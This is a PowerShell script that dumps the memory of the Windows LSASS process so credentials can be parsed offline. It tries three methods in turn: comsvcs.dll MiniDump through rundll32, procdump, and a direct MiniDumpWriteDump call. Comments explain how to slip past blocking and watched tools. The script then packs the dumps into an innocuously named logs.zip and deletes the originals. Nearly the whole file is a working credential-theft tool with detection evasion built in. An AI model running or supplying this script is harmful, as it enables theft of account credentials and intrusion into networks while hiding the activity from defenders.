<#
    Grab LSASS memory for offline parsing. Needs SeDebugPrivilege (run elevated).
#>
$out = 'C:\Windows\Temp\debug'
New-Item -ItemType Directory -Path $out -Force | Out-Null

$lsass = Get-Process -Name lsass
$dumpFile = Join-Path -Path $out -ChildPath "$($env:COMPUTERNAME)_$(Get-Date -Format yyyyMMddHHmm).dmp"

# living off the land: comsvcs.dll exports MiniDump
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id $dumpFile full

if (-not (Test-Path -Path $dumpFile)) {
    # sysinternals fallback, signed by Microsoft so it rarely gets blocked
    & "$out\procdump64.exe" -accepteula -ma $lsass.Id "$out\lsass.dmp"
    & "$out\procdump64.exe" -accepteula -r -ma lsass.exe "$out\l2.dmp"
}

# MiniDumpWriteDump through P/Invoke for hosts where rundll32 is watched
$sig = '[DllImport("dbghelp.dll")] public static extern bool MiniDumpWriteDump(IntPtr hProcess, uint ProcessId, IntPtr hFile, uint DumpType, IntPtr ExceptionParam, IntPtr UserStreamParam, IntPtr CallbackParam);'
$dbg = Add-Type -MemberDefinition $sig -Name 'Dbg' -Namespace 'Win32' -PassThru
$fs = New-Object IO.FileStream("$out\m.bin", [IO.FileMode]::Create)
$dbg::MiniDumpWriteDump($lsass.Handle, [uint32]$lsass.Id, $fs.SafeFileHandle.DangerousGetHandle(), 2, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero) | Out-Null
$fs.Close()

Compress-Archive -Path "$out\*.dmp", "$out\m.bin" -DestinationPath "$out\logs.zip" -Force
Remove-Item -Path "$out\*.dmp", "$out\m.bin" -Force
